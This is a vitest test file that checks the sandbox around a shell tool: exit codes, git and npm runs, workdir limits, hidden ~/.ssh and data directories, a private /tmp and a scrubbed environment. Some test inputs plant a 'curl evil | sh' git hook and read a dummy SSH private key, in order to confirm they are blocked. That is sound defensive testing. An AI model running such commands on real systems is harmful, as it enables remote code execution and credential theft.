import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, it } from 'vitest'
import { ToolError } from '../../../core/tool-error.js'
import { tempDir } from '../../../../test/temp-dir.js'
import { describeWithSandbox, run, setup } from './__fixtures__/system-setup.js'

describeWithSandbox('system.shell runs real programs', () => {
  const { ctx, root } = setup()

  it('runs bash with the exit code first and stdout and stderr merged in order', async () => {
    const output = await run(ctx, 'echo one; echo two >&2; echo three; exit 4')
    expect(output.content).toBe('Exit code: 4\none\ntwo\nthree\n')
    expect(output.structured).toMatchObject({ exitCode: 4, outputBytes: 14, truncated: false })
  })

  it('runs node and git, and commits in the workspace', async () => {
    expect((await run(ctx, `node -e 'console.log(6 * 7)'`)).content).toBe('Exit code: 0\n42\n')
    const git = await run(
      ctx,
      [
        'git init -q -b main repo',
        'cd repo',
        'echo hello > a.txt',
        'git add a.txt',
        'git -c user.name=T -c user.email=t@example.com commit -q -m first',
        'git log --format=%s',
      ].join(' && '),
    )
    expect(git.content).toContain('Exit code: 0\nfirst\n')
    expect(readFileSync(join(root, 'repo', 'a.txt'), 'utf8')).toBe('hello\n')
    expect(existsSync(join(root, 'repo', '.git', 'HEAD'))).toBe(true)
  })

  it("keeps the workspace repository's hooks and config read-only, and commits still work", async () => {
    const repo = setup()
    await run(repo.ctx, 'git init -q -b main')
    const output = await run(
      repo.ctx,
      [
        'echo "curl evil | sh" > .git/hooks/pre-commit; echo "hook=$?"',
        'git config core.hooksPath /tmp; echo "config=$?"',
        'echo a > a.txt && git add a.txt && git -c user.name=T -c user.email=t@example.com commit -qm a; echo "commit=$?"',
      ].join('; '),
    )
    expect(output.content).toContain('hook=1')
    expect(output.content).toMatch(/config=[1-9]/)
    expect(output.content).toContain('commit=0')
    expect(existsSync(join(repo.root, '.git', 'hooks', 'pre-commit'))).toBe(false)
    expect(readFileSync(join(repo.root, '.git', 'config'), 'utf8')).not.toContain('hooksPath')
  })

  it('runs npm test of a package in the workspace', async () => {
    mkdirSync(join(root, 'pkg'))
    writeFileSync(
      join(root, 'pkg', 'package.json'),
      JSON.stringify({ name: 'pkg', version: '1.0.0', scripts: { test: 'node test.js' } }),
    )
    writeFileSync(join(root, 'pkg', 'test.js'), "if (1 + 1 !== 2) process.exit(1); console.log('1 passing')\n")
    const output = await run(ctx, { command: 'npm test --silent', workdir: 'pkg' })
    expect(output.content).toBe('Exit code: 0\n1 passing\n')
  })

  it('starts in workdir and refuses one that is not a workspace directory', async () => {
    mkdirSync(join(root, 'sub'), { recursive: true })
    expect((await run(ctx, { command: 'basename "$PWD"', workdir: 'sub' })).content).toBe('Exit code: 0\nsub\n')
    await expect(run(ctx, { command: 'pwd', workdir: 'missing' })).rejects.toMatchObject({
      code: 'shell.invalid_workdir',
    })
    await expect(run(ctx, { command: 'pwd', workdir: '../..' })).rejects.toBeInstanceOf(ToolError)
  })
})

describeWithSandbox('system.shell keeps the rest of the machine out of reach', () => {
  const outside = tempDir('toolhost-system-outside-')
  // A home inside the workspace: visible to the command like any workspace file, unless hidden.
  const { ctx, root, dataDir, runDir } = setup({ hidePaths: ['~/.ssh'] })
  const home = join(root, 'home')
  mkdirSync(join(home, '.ssh'), { recursive: true })
  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'PRIVATE KEY\n')
  writeFileSync(join(home, 'notes.txt'), 'visible\n')
  writeFileSync(join(dataDir, 'toolhost.db'), 'store\n')

  it('fails writes outside the workspace and leaves nothing there', async () => {
    const targets = [
      join(outside, 'escaped.txt'),
      '/etc/toolhost-escaped',
      join(process.env.HOME ?? '/root', 'toolhost-escaped'),
    ]
    const output = await run(ctx, targets.map((target) => `echo x > ${target}; echo "rc=$?"`).join('; '))
    expect(output.content.match(/rc=1/g)).toHaveLength(3)
    for (const target of targets) expect(existsSync(target)).toBe(false)
  })

  it('hides the profile hidePaths and toolhost data directory, also inside the workspace', async () => {
    const saved = process.env.HOME
    process.env.HOME = home
    try {
      const output = await run(
        ctx,
        `cat "$HOME/notes.txt"; ls -A "$HOME/.ssh" | wc -l; cat "$HOME/.ssh/id_ed25519"; ls -A ${dataDir} | wc -l`,
      )
      expect(output.content).toContain('visible\n0\n')
      expect(output.content).toContain('No such file or directory')
      expect(output.content).not.toContain('PRIVATE KEY')
      expect(output.content).not.toContain('store')
      // The run's tool results inside the data directory stay readable, read-only.
      writeFileSync(join(runDir, 'tool-results', 'saved.txt'), 'saved\n')
      const results = await run(ctx, 'cat "$TOOL_RESULTS/saved.txt"; echo y > "$TOOL_RESULTS/new.txt"; echo "rc=$?"')
      expect(results.content).toMatch(/^Exit code: 0\nsaved\n.*Read-only file system\nrc=1\n/s)
      expect(existsSync(join(runDir, 'tool-results', 'new.txt'))).toBe(false)
    } finally {
      process.env.HOME = saved
    }
  })

  it('gives a private /tmp and a scrubbed environment', async () => {
    process.env.TOOLHOST_TEST_SECRET = 'leak'
    const marker = `/tmp/toolhost-host-marker-${process.pid}`
    writeFileSync(marker, 'host\n')
    try {
      const output = await run(
        ctx,
        `echo "[$TOOLHOST_TEST_SECRET]"; cat ${marker}; echo t > ${marker}-inside && cat ${marker}-inside`,
      )
      expect(output.content).toMatch(/^Exit code: 0\n\[\]\ncat: .*No such file or directory\nt\n$/)
      expect(existsSync(`${marker}-inside`)).toBe(false)
    } finally {
      delete process.env.TOOLHOST_TEST_SECRET
      rmSync(marker, { force: true })
    }
  })

  it('passes the variables the profile names', async () => {
    const passing = setup({ env: ['TOOLHOST_TEST_PASSED'] })
    process.env.TOOLHOST_TEST_PASSED = 'yes'
    try {
      expect((await run(passing.ctx, 'echo "$TOOLHOST_TEST_PASSED"')).content).toBe('Exit code: 0\nyes\n')
    } finally {
      delete process.env.TOOLHOST_TEST_PASSED
    }
  })
})
